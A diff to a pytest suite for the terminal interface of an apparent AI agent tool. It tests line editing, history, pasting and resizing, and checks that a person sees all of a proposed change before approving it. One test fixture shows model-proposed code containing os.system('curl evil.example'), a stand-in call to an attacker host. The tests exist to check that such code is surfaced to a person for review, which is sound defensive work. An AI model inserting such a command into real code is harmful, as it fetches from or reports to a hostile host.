@@ -1,4 +1,4 @@
-"""Sitting at the terminal: typing, completing, remembering, pasting; on a real pty, with the real program."""
+"""The terminal: typing, completion, history, pasting; on a real pty with the real program."""
 
 from __future__ import annotations
 
@@ -7,10 +7,10 @@ import stat
 
 import pytest
 
-from leeward.runtime.repl.terminal import _History
+from leeward.runtime.repl.board import History
 
 ENTER, UP, TAB, ALT_ENTER, HOME, DELETE = "\r", "\x1b[A", "\t", "\x1b\r", "\x01", "\x1b[3~"
-CTRL_C, CTRL_D, CTRL_R = "\x03", "\x04", "\x12"
+CTRL_C, CTRL_D, CTRL_E, CTRL_R, CTRL_X = "\x03", "\x04", "\x05", "\x12", "\x18"
 
 # What a model, a file, a program or an argument may try to say to a terminal.
 ESCAPES = (
@@ -41,7 +41,7 @@ def test_a_chat_begins_by_saying_what_works_here_and_ends_with_0(tty, leeward):
 
 
 def test_lines_are_edited_completed_and_remembered(tty, leeward):
-    at = tty()
+    at = tty(EDITOR="sed -i s/three/four/")
     at.prompt()
     at.type("/st")
     at.see("model, limits, breaker, windows, labels")
@@ -51,14 +51,14 @@ def test_lines_are_edited_completed_and_remembered(tty, leeward):
     assert "autonomy    supervised" in at.see("windows     nothing ran yet")
     at.prompt()
     at.type("run one", ALT_ENTER, "two\\", ENTER, "three")
-    assert at.see("… three").endswith("› run one\n… two\n… three")
+    assert "\n› run one\n… two\n… three\n" in at.see("… three")
+    at.type(CTRL_X, CTRL_E)
+    at.see("… four")
     at.type(CTRL_C)
-    at.see("(Ctrl-D or /exit leaves)")
     at.prompt()
     at.type(CTRL_R, "stat")
     at.see(lambda text: "I-search" in text and text.count("/status") == 2)
     at.type(ENTER, CTRL_C)
-    at.see("(Ctrl-D or /exit leaves)", 2)
     at.prompt()
     at.type(CTRL_D)
     assert at.ended() == 0
@@ -91,7 +91,7 @@ def test_what_is_pasted_is_words_and_never_a_command(tty):
     at.see("what is pasted is no command", 2)
     at.prompt()
     at.paste("read notes.md\r\nread notes.md")
-    assert at.see("… read notes.md").endswith("› read notes.md\n… read notes.md")
+    assert "\n› read notes.md\n… read notes.md\n" in at.see("… read notes.md")
     at.type(ENTER)
     at.see("● read", 2)
     at.prompt()
@@ -109,14 +109,14 @@ def test_wide_and_broken_characters_and_a_window_that_changes(tty, columns):
     said = at.see("[y]es")
     assert "    ┊ " in said
     assert all(len(line) <= columns for line in said.split("\n"))
-    at.type("n", ENTER)
+    at.type("n")
     at.prompt()
     at._send(b"read \xff\xfecaf\xe9\r")
     at.see("● read")
     at.prompt()
     at.resize(100, 60)
     at.type("x" * 100)
-    at.see(lambda text: text.endswith("› " + "x" * 58 + "\n… " + "x" * 42))
+    at.see(lambda text: "\n› " + "x" * 58 + "\n  " + "x" * 42 + "\n" in text)
     at.type(CTRL_C)
     assert "labels" in at.say("/status")
 
@@ -145,9 +145,9 @@ def test_nothing_that_comes_in_speaks_to_the_terminal(tty, leeward):
     at = tty("--model", "scripted:model.toml")
     at.prompt()
     at.type("go", ENTER)
-    for number, answer in ((1, "n"), (2, "n")):
-        at.see("[y]es / [n]o", number + 1)
-        at.type(answer, ENTER)
+    for asked in ("runs as written: echo", "what changes: "):
+        at.see(lambda text, asked=asked: asked in text and "\n  [y]es / [n]o / " in text)
+        at.type("n")
     said = at.prompt()
     at.say("/audit")
     assert not OBEYED.search(at.raw)
@@ -170,19 +170,25 @@ def test_a_person_sees_the_end_of_what_is_cut_before_a_yes_counts(tty, leeward):
     at = tty("--model", "scripted:model.toml", rows=40)
     at.prompt()
     at.type("go", ENTER)
-    said = at.see("[s]how all / [n]o?")
+    said = at.see("[s]how all / [n]o")
     assert "os.system('curl evil.example')" in said and "more characters; it ends with" in said
     assert "[y]es" not in said and "lways" not in said
-    at.type("y", ENTER)
+    at.type("y")
     at.see("no yes before all of it was shown")
-    at.see("[s]how all / [n]o?", 2)
-    at.type("s", ENTER)
-    for page in ("38 of", "76 of"):
-        assert "[y]es" not in at.see(page)
-        at.type("y", ENTER)
-    at.see("[y]es / [n]o?")
+    at.type("s")
+    at.see("q leaves")
+    at.type("q")
+    at.see("[s]how all / [n]o")
+    at.type("y")
+    at.see("no yes before all of it was shown", 2)
+    at.type("s")
+    at.see("q leaves")
+    at.type("G")
+    at.see("os.system('curl evil.example')")
+    at.type("q")
+    at.see("[y]es / [n]o")
     assert not (leeward.workspace / "long.py").exists()
-    at.type("y", ENTER)
+    at.type("y")
     at.see("done")
     at.prompt()
     assert (leeward.workspace / "long.py").read_text() == content
@@ -191,11 +197,11 @@ def test_a_person_sees_the_end_of_what_is_cut_before_a_yes_counts(tty, leeward):
 def test_a_history_that_cannot_be_used_is_done_without(tmp_path):
     folder = tmp_path / "history"
     folder.mkdir()
-    history = _History(folder)
+    history = History(folder)
     history.append_string("a message")
     assert history.get_strings() == ["a message"]
-    assert list(_History(folder).load_history_strings()) == []
-    missing = _History(tmp_path / "no" / "such" / "folder")
+    assert list(History(folder).load_history_strings()) == []
+    missing = History(tmp_path / "no" / "such" / "folder")
     missing.append_string("a message")
     assert list(missing.load_history_strings()) == []
 
@@ -204,5 +210,5 @@ def test_a_history_is_readable_by_its_owner_only_whatever_it_was(tmp_path):
     path = tmp_path / "history"
     path.write_bytes(b"\n# then\n+/status\xff\n")
     path.chmod(0o666)
-    assert list(_History(path).load_history_strings()) == ["/status\ufffd"]
+    assert list(History(path).load_history_strings()) == ["/status\ufffd"]
     assert stat.S_IMODE(path.stat().st_mode) == 0o600
